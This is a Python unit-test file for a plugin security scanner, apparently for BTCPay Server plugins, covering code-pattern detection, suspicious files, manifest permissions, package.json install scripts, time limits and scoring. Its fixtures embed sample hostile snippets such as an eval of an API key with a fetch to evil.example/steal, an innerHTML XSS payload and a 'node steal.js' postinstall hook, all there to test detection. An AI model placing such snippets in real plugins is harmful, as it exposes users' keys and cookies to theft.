"""
Unit tests for the plugin security scanner.

Tests each sub-scan against small bundles built in tmp_path, plus scoring,
the pass/fail decision, recommendations and the never-raise contract.
"""

import json
import time
from pathlib import Path
from typing import Any, Callable, Dict, List

import pytest

from app.config import Settings
from app.models.plugin_models import IssueCategory, IssueSeverity, SecurityIssue
from app.services.plugins.security import PluginSecurityScanner
from app.services.plugins.security.scanner import (
    RECOMMEND_DO_NOT_INSTALL,
    RECOMMEND_LOW_SCORE,
    RECOMMEND_OBFUSCATION,
    RECOMMEND_SCAN_FAILED,
    RECOMMEND_VERIFY_ENDPOINTS,
    build_recommendations,
    calculate_security_score,
    has_high_risk_file,
    is_passing,
)


def issue(severity: IssueSeverity, category: IssueCategory = IssueCategory.CODE_PATTERN, message: str = "x"):
    return SecurityIssue(severity=severity, type=category, message=message)


def of_type(issues: List[SecurityIssue], category: IssueCategory) -> List[SecurityIssue]:
    return [i for i in issues if i.type == category]


@pytest.fixture
def scanner(settings: Settings) -> PluginSecurityScanner:
    return PluginSecurityScanner(settings)


@pytest.mark.unit
class TestCleanBundle:
    """A clean bundle passes with a perfect score."""

    def test_clean_bundle_passes(self, scanner: PluginSecurityScanner, make_bundle: Callable[..., Path]) -> None:
        result = scanner.scan_plugin(make_bundle())
        assert result.passed is True
        assert result.score == 100
        assert result.issues == []
        assert result.recommendations == []
        assert result.files_scanned == 2

    def test_scan_is_deterministic(self, scanner: PluginSecurityScanner, make_bundle: Callable[..., Path]) -> None:
        root = make_bundle(
            overrides={
                "a.ts": "eval(a);\ndocument.cookie;",
                "b/c.js": "localStorage.clear();",
                "b/d.jsx": "fetch(url);",
            }
        )
        assert scanner.scan_plugin(root) == scanner.scan_plugin(root)

    def test_node_modules_skipped(self, scanner: PluginSecurityScanner, make_bundle: Callable[..., Path]) -> None:
        root = make_bundle(overrides={"node_modules/evil/index.js": "eval(process.env.SECRET);"})
        result = scanner.scan_plugin(root)
        assert result.score == 100
        assert result.passed is True


@pytest.mark.unit
class TestCodePatterns:
    """Literal detection scenarios."""

    def test_eval_and_environment_access(
        self, scanner: PluginSecurityScanner, make_bundle: Callable[..., Path]
    ) -> None:
        code = "const k = eval('process.env.BTCPAYSERVER_API_KEY');\nfetch('https://evil.example/steal');\n"
        result = scanner.scan_plugin(make_bundle(overrides={"index.tsx": code}))

        critical = [i for i in result.issues if i.severity == IssueSeverity.CRITICAL]
        assert any("eval" in i.message for i in critical)
        assert any("Environment variable" in i.message for i in critical)
        assert result.passed is False
        assert result.score == 0
        assert result.recommendations == [RECOMMEND_DO_NOT_INSTALL, RECOMMEND_VERIFY_ENDPOINTS, RECOMMEND_LOW_SCORE]

    def test_innerhtml_and_cookie(self, scanner: PluginSecurityScanner, make_bundle: Callable[..., Path]) -> None:
        code = "document.body.innerHTML = '<img onerror=alert(1)>';\nconst c = document.cookie;\n"
        result = scanner.scan_plugin(make_bundle(overrides={"components/Widget.tsx": code}))

        assert any(i.severity == IssueSeverity.HIGH and "innerHTML" in i.message for i in result.issues)
        assert any(i.severity == IssueSeverity.CRITICAL and "Cookie access" in i.message for i in result.issues)
        assert result.passed is False

    def test_issue_carries_file_line_and_code(
        self, scanner: PluginSecurityScanner, make_bundle: Callable[..., Path]
    ) -> None:
        code = "// widget\nconst x = 1;\n  eval(x);\n"
        result = scanner.scan_plugin(make_bundle(overrides={"components/Widget.tsx": code}))

        evals = [i for i in result.issues if i.message == "Direct eval() usage detected"]
        assert len(evals) == 1
        assert evals[0].file == "components/Widget.tsx"
        assert evals[0].line == 3
        assert evals[0].code == "eval(x);"

    def test_sensitive_data_once_per_file(
        self, scanner: PluginSecurityScanner, make_bundle: Callable[..., Path]
    ) -> None:
        code = "const password = a;\nconst password2 = b;\nconst secretToken = c;\n"
        result = scanner.scan_plugin(make_bundle(overrides={"auth.ts": code}))

        sensitive = of_type(result.issues, IssueCategory.SENSITIVE_DATA)
        assert len(sensitive) == 1
        assert sensitive[0].severity == IssueSeverity.MEDIUM
        assert sensitive[0].file == "auth.ts"
        assert result.score == 95

    def test_non_code_files_not_pattern_scanned(
        self, scanner: PluginSecurityScanner, make_bundle: Callable[..., Path]
    ) -> None:
        result = scanner.scan_plugin(make_bundle(overrides={"README.md": "Never call eval(x) or use a password."}))
        assert result.issues == []

    def test_obfuscated_file(self, scanner: PluginSecurityScanner, make_bundle: Callable[..., Path]) -> None:
        code = "\\x41" * 100 + "\n" + "\\u0041" * 100 + "\n" + "\x02" * 100 + "\n"
        result = scanner.scan_plugin(make_bundle(overrides={"packed.js": code}))

        obfuscation = [i for i in result.issues if i.message.startswith("Moderate obfuscation detected")]
        assert len(obfuscation) == 1
        assert obfuscation[0].file == "packed.js"
        assert RECOMMEND_OBFUSCATION in result.recommendations

    def test_oversized_source_not_scanned(self, settings: Settings, make_bundle: Callable[..., Path]) -> None:
        scanner = PluginSecurityScanner(settings.model_copy(update={"max_scan_file_size": 1000}))
        root = make_bundle(overrides={"bundle.js": "eval(x);\n" + "//" + "x" * 2000})

        result = scanner.scan_plugin(root)

        assert [(i.severity, i.type, i.file) for i in result.issues] == [
            (IssueSeverity.HIGH, IssueCategory.FILE_ERROR, "bundle.js")
        ]
        assert result.score == 85


@pytest.mark.unit
class TestSuspiciousFiles:
    """File type and large file checks."""

    def test_shell_script_fails_regardless_of_score(
        self, scanner: PluginSecurityScanner, make_bundle: Callable[..., Path]
    ) -> None:
        result = scanner.scan_plugin(make_bundle(overrides={"scripts/install.sh": "echo hi"}))
        assert result.score == 85
        assert result.passed is False
        assert of_type(result.issues, IssueCategory.SUSPICIOUS_FILE)[0].message == "Shell script found"

    def test_wasm_fails(self, scanner: PluginSecurityScanner, make_bundle: Callable[..., Path]) -> None:
        result = scanner.scan_plugin(make_bundle(overrides={"assets/miner.wasm": b"\x00asm"}))
        assert result.passed is False

    def test_shared_library_lowers_score_only(
        self, scanner: PluginSecurityScanner, make_bundle: Callable[..., Path]
    ) -> None:
        result = scanner.scan_plugin(make_bundle(overrides={"lib/native.so": b"\x7fELF"}))
        assert result.score == 85
        assert result.passed is True

    def test_executable_is_critical(self, scanner: PluginSecurityScanner, make_bundle: Callable[..., Path]) -> None:
        result = scanner.scan_plugin(make_bundle(overrides={"bin/tool.exe": b"MZ"}))
        assert result.issues[0].severity == IssueSeverity.CRITICAL
        assert result.passed is False
        assert RECOMMEND_DO_NOT_INSTALL in result.recommendations

    def test_large_file(self, settings: Settings, make_bundle: Callable[..., Path]) -> None:
        scanner = PluginSecurityScanner(settings.model_copy(update={"large_file_threshold": 1024}))
        result = scanner.scan_plugin(make_bundle(overrides={"assets/data.bin": b"\x00" * 1024}))

        large = of_type(result.issues, IssueCategory.SUSPICIOUS_FILE)
        assert len(large) == 1
        assert large[0].severity == IssueSeverity.MEDIUM
        assert large[0].message.startswith("Large file detected")
        assert result.passed is True


@pytest.mark.unit
class TestManifestScan:
    """Manifest sub-scan."""

    def write_manifest(self, make_bundle: Callable[..., Path], manifest: Dict[str, Any]) -> Path:
        return make_bundle(overrides={"manifest.json": json.dumps(manifest)})

    def test_dangerous_permission(
        self, scanner: PluginSecurityScanner, make_bundle: Callable[..., Path], clean_manifest: Dict[str, Any]
    ) -> None:
        clean_manifest["requiredPermissions"] = [
            {"permission": "btcpay.server.canmodifyserversettings", "description": "d", "required": True}
        ]
        result = scanner.scan_plugin(self.write_manifest(make_bundle, clean_manifest))

        permission = of_type(result.issues, IssueCategory.PERMISSION)
        assert [i.severity for i in permission] == [IssueSeverity.HIGH]
        assert permission[0].message == "Requests dangerous permission: btcpay.server.canmodifyserversettings"
        assert result.score == 85

    def test_excessive_permissions(
        self, scanner: PluginSecurityScanner, make_bundle: Callable[..., Path], clean_manifest: Dict[str, Any]
    ) -> None:
        clean_manifest["requiredPermissions"] = [
            {"permission": f"btcpay.store.perm{n}", "description": "d", "required": True} for n in range(6)
        ]
        result = scanner.scan_plugin(self.write_manifest(make_bundle, clean_manifest))
        assert [i.message for i in result.issues] == ["Plugin requests excessive number of permissions"]

    def test_untrusted_url(
        self, scanner: PluginSecurityScanner, make_bundle: Callable[..., Path], clean_manifest: Dict[str, Any]
    ) -> None:
        clean_manifest["homepage"] = "https://evil.example.com/plugin"
        result = scanner.scan_plugin(self.write_manifest(make_bundle, clean_manifest))

        network = of_type(result.issues, IssueCategory.NETWORK)
        assert len(network) == 1
        assert network[0].severity == IssueSeverity.MEDIUM
        assert RECOMMEND_VERIFY_ENDPOINTS in result.recommendations

    def test_trusted_url(
        self, scanner: PluginSecurityScanner, make_bundle: Callable[..., Path], clean_manifest: Dict[str, Any]
    ) -> None:
        clean_manifest["homepage"] = "https://docs.btcpayserver.org/plugins"
        result = scanner.scan_plugin(self.write_manifest(make_bundle, clean_manifest))
        assert result.issues == []

    def test_invalid_version(
        self, scanner: PluginSecurityScanner, make_bundle: Callable[..., Path], clean_manifest: Dict[str, Any]
    ) -> None:
        clean_manifest["version"] = "v1"
        result = scanner.scan_plugin(self.write_manifest(make_bundle, clean_manifest))
        assert [(i.severity, i.type) for i in result.issues] == [(IssueSeverity.LOW, IssueCategory.MANIFEST)]
        assert result.score == 98

    def test_missing_manifest_is_critical(
        self, scanner: PluginSecurityScanner, make_bundle: Callable[..., Path]
    ) -> None:
        result = scanner.scan_plugin(make_bundle(remove=["manifest.json"]))
        assert result.issues[0].severity == IssueSeverity.CRITICAL
        assert result.issues[0].type == IssueCategory.MANIFEST
        assert result.passed is False


@pytest.mark.unit
class TestDependencyScan:
    """package.json review."""

    def test_suspicious_dependencies_and_scripts(
        self, scanner: PluginSecurityScanner, make_bundle: Callable[..., Path]
    ) -> None:
        package_json = {
            "dependencies": {"shelljs": "^0.8.5", "react": "^18.2.0"},
            "devDependencies": {"my-postinstall-helper": "1.0.0"},
            "scripts": {"build": "tsc", "postinstall": "node steal.js"},
        }
        result = scanner.scan_plugin(make_bundle(overrides={"package.json": json.dumps(package_json)}))

        dependency = of_type(result.issues, IssueCategory.DEPENDENCY)
        assert [i.message for i in dependency] == [
            "Suspicious dependency detected: shelljs@^0.8.5",
            "Package with install scripts detected: my-postinstall-helper",
        ]
        scripts = of_type(result.issues, IssueCategory.NPM_SCRIPT)
        assert len(scripts) == 1
        assert scripts[0].message == "Dangerous npm script detected: postinstall"
        assert scripts[0].code == "node steal.js"
        assert result.score == 55
        assert result.passed is False

    def test_unparsable_package_json(self, scanner: PluginSecurityScanner, make_bundle: Callable[..., Path]) -> None:
        result = scanner.scan_plugin(make_bundle(overrides={"package.json": "{not json"}))
        assert [(i.severity, i.message) for i in result.issues] == [
            (IssueSeverity.LOW, "Unable to parse package.json")
        ]


@pytest.mark.unit
class TestScanFailures:
    """Never-raise contract and time bound."""

    def test_missing_directory_is_scan_error(self, scanner: PluginSecurityScanner, tmp_path: Path) -> None:
        result = scanner.scan_plugin(tmp_path / "does-not-exist")
        assert result.passed is False
        assert result.score == 0
        assert [i.type for i in result.issues] == [IssueCategory.SCAN_ERROR]
        assert result.recommendations == [RECOMMEND_SCAN_FAILED]

    def test_scan_time_limit(self, settings: Settings, make_bundle: Callable[..., Path]) -> None:
        class SlowScanner(PluginSecurityScanner):
            def scan_file(self, file_path, root, deadline=None):
                time.sleep(0.5)
                return super().scan_file(file_path, root, deadline)

        scanner = SlowScanner(settings.model_copy(update={"max_scan_seconds": 0.05}))
        result = scanner.scan_plugin(make_bundle())

        scan_errors = of_type(result.issues, IssueCategory.SCAN_ERROR)
        assert len(scan_errors) == 1
        assert scan_errors[0].severity == IssueSeverity.CRITICAL
        assert "time limit" in scan_errors[0].message
        assert result.passed is False

    def test_time_limit_does_not_wait_for_running_workers(
        self, settings: Settings, make_bundle: Callable[..., Path]
    ) -> None:
        class StuckScanner(PluginSecurityScanner):
            def scan_file(self, file_path, root, deadline=None):
                time.sleep(3.0)
                return []

        scanner = StuckScanner(settings.model_copy(update={"max_scan_seconds": 0.2}))

        started = time.monotonic()
        result = scanner.scan_plugin(make_bundle())
        elapsed = time.monotonic() - started

        assert elapsed < 2.0
        assert len(of_type(result.issues, IssueCategory.SCAN_ERROR)) == 1

    def test_pathological_source_file_is_bounded(
        self, settings: Settings, make_bundle: Callable[..., Path]
    ) -> None:
        scanner = PluginSecurityScanner(settings.model_copy(update={"max_scan_seconds": 0.5}))
        bundle = make_bundle(overrides={"components/evil.ts": "setTimeout(" * 40000})

        started = time.monotonic()
        scanner.scan_plugin(bundle)

        assert time.monotonic() - started < 5.0


@pytest.mark.unit
class TestScoring:
    """Score and pass/fail helpers."""

    def test_no_issues_scores_100(self) -> None:
        assert calculate_security_score([]) == 100

    def test_penalties(self) -> None:
        issues = [
            issue(IssueSeverity.CRITICAL),
            issue(IssueSeverity.HIGH),
            issue(IssueSeverity.MEDIUM),
            issue(IssueSeverity.LOW),
        ]
        assert calculate_security_score(issues) == 48

    def test_score_clamped_at_zero(self) -> None:
        assert calculate_security_score([issue(IssueSeverity.CRITICAL)] * 5) == 0

    def test_adding_issue_never_increases_score(self) -> None:
        issues: List[SecurityIssue] = []
        previous = calculate_security_score(issues)
        for severity in [IssueSeverity.LOW, IssueSeverity.HIGH, IssueSeverity.MEDIUM, IssueSeverity.CRITICAL] * 3:
            issues.append(issue(severity))
            current = calculate_security_score(issues)
            assert current <= previous
            previous = current

    def test_threshold_boundary(self) -> None:
        issues = [issue(IssueSeverity.HIGH), issue(IssueSeverity.HIGH)]
        assert is_passing(issues, calculate_security_score(issues)) is True
        issues.append(issue(IssueSeverity.LOW))
        assert is_passing(issues, calculate_security_score(issues)) is False

    def test_custom_threshold(self) -> None:
        issues = [issue(IssueSeverity.MEDIUM)]
        assert is_passing(issues, 95, threshold=96) is False

    def test_critical_always_fails(self) -> None:
        assert is_passing([issue(IssueSeverity.CRITICAL)], 100) is False

    def test_high_risk_file_predicate(self) -> None:
        assert has_high_risk_file([issue(IssueSeverity.HIGH, IssueCategory.SUSPICIOUS_FILE, "PowerShell script found")])
        assert not has_high_risk_file([issue(IssueSeverity.HIGH, IssueCategory.SUSPICIOUS_FILE, "Batch file found")])
        assert not has_high_risk_file([issue(IssueSeverity.HIGH, IssueCategory.CODE_PATTERN, "WebAssembly usage detected")])

    def test_passed_implies_threshold(self) -> None:
        for count in range(8):
            issues = [issue(IssueSeverity.MEDIUM)] * count
            score = calculate_security_score(issues)
            if is_passing(issues, score):
                assert score >= 70

    def test_recommendations(self) -> None:
        issues = [
            issue(IssueSeverity.HIGH, IssueCategory.OBFUSCATION),
            issue(IssueSeverity.MEDIUM, IssueCategory.NETWORK),
        ]
        assert build_recommendations(issues, 80) == [RECOMMEND_OBFUSCATION, RECOMMEND_VERIFY_ENDPOINTS]
        assert build_recommendations([], 40) == [RECOMMEND_LOW_SCORE]
